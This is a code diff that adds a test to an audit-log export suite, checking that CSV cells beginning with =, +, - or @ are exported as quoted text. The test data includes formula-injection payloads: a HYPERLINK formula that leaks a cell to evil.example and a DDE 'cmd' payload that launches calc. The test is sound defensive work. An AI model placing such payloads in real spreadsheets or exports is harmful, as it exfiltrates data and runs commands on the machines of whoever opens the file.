@@ -89,6 +89,22 @@ describe('export', () => {
     expect(text).toContain('\n#checkpoint,"');
   });
 
+  test('CSV: a cell a spreadsheet would run as a formula (= + - @) is exported as quoted text behind a single quote', async () => {
+    const formulas = [
+      { reason: '=HYPERLINK("https://evil.example/?leak="&A1,"open")', actor: { type: 'user', id: '@SUM(1+1)' } },
+      { reason: '+1+cmd|\' /C calc\'!A0', actor: { type: 'user', id: '-2+3' } },
+    ];
+    for (const overrides of formulas) await admin.record(loginEvent({ tenant: 'formula', ...overrides }), '?wait=checkpoint');
+    const rows = (await exported('csv', 'tenant=formula', admin)).split('\n').filter((line) => /^\d+,/.test(line));
+    expect(rows).toHaveLength(2);
+    expect(rows[0]).toContain(',"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""open"")",');
+    expect(rows[0]).toContain(',"\'@SUM(1+1)",');
+    expect(rows[1]).toContain(',"\'+1+cmd|\' /C calc\'!A0",');
+    expect(rows[1]).toContain(',"\'-2+3",');
+    // No cell of any row starts with a formula character once the quoting is taken off.
+    for (const row of rows) expect(row).not.toMatch(/(^|,)"?[=+\-@]/);
+  });
+
   test('OCSF: one OCSF event a line, with its class, tenant and product', async () => {
     const lines = (await exported('ocsf', 'tenant=acme&action=role.granted')).trimEnd().split('\n').map((line) => JSON.parse(line));
     const end = lines.pop();
